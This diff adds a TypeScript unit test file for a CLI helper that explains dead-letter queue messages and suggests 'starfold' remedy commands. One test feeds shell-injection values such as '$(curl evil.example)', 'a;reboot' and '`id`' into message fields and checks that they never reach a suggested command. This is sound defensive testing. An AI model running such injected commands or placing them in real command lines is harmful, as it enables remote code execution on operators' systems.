@@ -1,0 +1,163 @@
+import { describe, expect, it } from 'vitest';
+import { type DeadMessage, explainMessage } from '#local/cli/deployment/dead-message.ts';
+import { encodeDirty, encodeHint } from '#shared/messages/dirty.ts';
+import type { RedrivableQueue, Redriver } from '#shared/messages/redrive.ts';
+import { encodeRedriven } from '#shared/messages/redriven.ts';
+import { eventsBody, FORWARDER, letterBody, WEB } from './dead-letter-messages.ts';
+
+const OWN = { principal: 'AIDAOPERATOR', recorder: 'AROARECORDER' };
+const RECORDER = 'AROARECORDER:starfold-prod-record-events';
+const EVENTS =
+  '3 events of wec/cluster1: deployments.apps shop/web, the end of a listing, a heartbeat';
+
+function explain(
+  queue: RedrivableQueue,
+  body: string,
+  { senderId = FORWARDER, redriver = OWN }: { senderId?: string; redriver?: Redriver } = {},
+): DeadMessage {
+  return explainMessage(
+    queue,
+    { messageId: 'm', receiptHandle: 'r', body, senderId, receiveCount: 1, sentAt: 0 },
+    redriver,
+  );
+}
+
+describe('explainMessage', () => {
+  it('names sources and objects of events whose handling failed, and their sender', () => {
+    const found = explain('events', eventsBody());
+    expect(found).toMatchObject({ kind: 'failed', about: EVENTS, sender: FORWARDER });
+    expect(found.reasons.join()).toContain('log of record-events');
+    expect(found.redrive.type).toBe('send');
+  });
+
+  it('names the first sender of events that had been redriven before', () => {
+    const body = encodeRedriven({ senderId: 'AROAFIRST:x', body: eventsBody() }) ?? '';
+    expect(explain('events', body, { senderId: 'AIDAOPERATOR' })).toMatchObject({
+      kind: 'failed',
+      about: EVENTS,
+      sender: 'AROAFIRST:x',
+    });
+  });
+
+  it('tells of a letter about a forged sender who it was, and how to let it speak', () => {
+    const found = explain('events', letterBody({}), { senderId: RECORDER });
+    expect(found).toMatchObject({
+      kind: 'forged-sender',
+      about: EVENTS,
+      sender: FORWARDER,
+      reasons: ['AROAFORWARDER is not registered for wec/cluster1'],
+    });
+    expect(found.remedy).toContain('starfold register wec/cluster1 --principal AROAFORWARDER,');
+    expect(found.remedy).toContain('starfold redrive --discard --message m');
+    expect(found.redrive.type).toBe('send');
+  });
+
+  it('tells of a letter about a quota how there is room again', () => {
+    const reasons = ['wec/cluster1 has reached its quota of 3 objects'];
+    const body = letterBody({ code: 'over-quota', reasons });
+    const found = explain('events', body, { senderId: RECORDER });
+    expect(found).toMatchObject({ kind: 'over-quota', about: EVENTS, reasons });
+    expect(found.remedy).toContain('raise objectsPerWec in infra/settings.yml');
+    expect(found.redrive.type).toBe('send');
+  });
+
+  it.each(['$(curl evil.example)', 'a;reboot', 'a b', 'a\u202eb', '`id`', "a'b"])(
+    'puts no name into a command that a shell might act on: %s',
+    (name) => {
+      const [first]: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
+      const body = JSON.stringify([{ ...first, source: `/wec/${name}` }]);
+      const letter = letterBody({ body, senderId: `${name}:session` });
+      const { remedy } = explain('events', letter, { senderId: RECORDER });
+      expect(remedy).toContain('starfold register, then');
+      expect(remedy).not.toContain(name);
+      const stranger = letterBody({ senderId: `${name}:session` });
+      const other = explain('events', stranger, { senderId: RECORDER });
+      expect(other.remedy).toContain('starfold register wec/cluster1 --principal ID, then');
+    },
+  );
+
+  it('leaves to the operator which of several sources he means', () => {
+    const batch: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
+    const other = { ...batch[2], source: '/wec/cluster2' };
+    const body = letterBody({ body: JSON.stringify([...batch, other]) });
+    const found = explain('events', body, { senderId: RECORDER });
+    expect(found.remedy).toContain('starfold register, then');
+  });
+
+  it('tells of a letter about unreadable events what is wrong with them', () => {
+    const reasons = ['event 1.2: time: missing'];
+    const body = letterBody({ code: 'unreadable', reasons, body: '[{}, {}]' });
+    const found = explain('events', body, { senderId: RECORDER });
+    expect(found).toMatchObject({
+      kind: 'unreadable',
+      about: '2 events that cannot be read',
+      reasons,
+    });
+    expect(found.remedy).toContain('update');
+  });
+
+  it.each([
+    ['written by somebody else', FORWARDER, OWN],
+    ['when it is not known who record-events is', RECORDER, { principal: 'AIDAOPERATOR' }],
+  ])('believes nothing of a letter %s', (_name, senderId, redriver) => {
+    const found = explain('events', letterBody({}), { senderId, redriver });
+    expect(found).toMatchObject({ kind: 'foreign', sender: senderId });
+    expect(found.redrive).toEqual({ type: 'stay', why: 'letter' });
+    expect(JSON.stringify(found)).not.toContain('cluster1');
+  });
+
+  it.each<[RedrivableQueue, string]>([
+    ['events', 'hello'],
+    ['events', '[{}]'],
+    ['dirty', '{}'],
+    ['hints', 'hello'],
+  ])('says that nothing can be read of another text in %s: %s', (queue, body) => {
+    const found = explain(queue, body);
+    expect(found.kind).toBe('unreadable');
+    expect(found.redrive).toEqual({ type: 'stay', why: 'unreadable' });
+    expect(found.remedy).toContain('--discard');
+  });
+
+  it.each([
+    [
+      encodeDirty({ type: 'subject', subject: WEB }, ''),
+      'aggregation of deployments.apps shop/web of wds1',
+    ],
+    [
+      encodeDirty({ type: 'members', wds: 'wds1', binding: 'b', revision: 1, cursor: '' }, ''),
+      'workload objects of Binding b of wds1',
+    ],
+    [
+      encodeDirty(
+        { type: 'sweep', source: { type: 'wec', name: 'a' }, since: { epoch: 1, sequence: 1 } },
+        '',
+      ),
+      'sweep of what wec/a no longer has',
+    ],
+  ])('names the work of aggregate-workload', ({ body }, about) => {
+    expect(explain('dirty', body)).toMatchObject({ kind: 'failed', about });
+  });
+
+  it.each([
+    [WEB, 'writing of deployments.apps shop/web of wds1'],
+    [{ type: 'binding', wds: 'wds1', name: 'b' } as const, 'writing of Binding b of wds1'],
+    [
+      { type: 'collector', wds: 'wds1', name: 'c' } as const,
+      'writing of StatusCollector c of wds1',
+    ],
+  ])('names the work of write-results', (subject, about) => {
+    const { body } = encodeHint({ subject, objects: [] }, '');
+    expect(explain('hints', body)).toMatchObject({ kind: 'failed', about });
+  });
+
+  it('names the first three of many', () => {
+    const batch: readonly Record<string, unknown>[] = JSON.parse(eventsBody());
+    const [first, ...others] = batch;
+    const more = ['a', 'b', 'c', 'd'].map((name) => ({
+      ...first,
+      subject: `wds1/apps/deployments/shop/${name}`,
+    }));
+    const { about } = explain('events', JSON.stringify([...more, ...others]));
+    expect(about).toMatch(/^6 events of wec\/cluster1: .* and 3 more$/);
+  });
+});
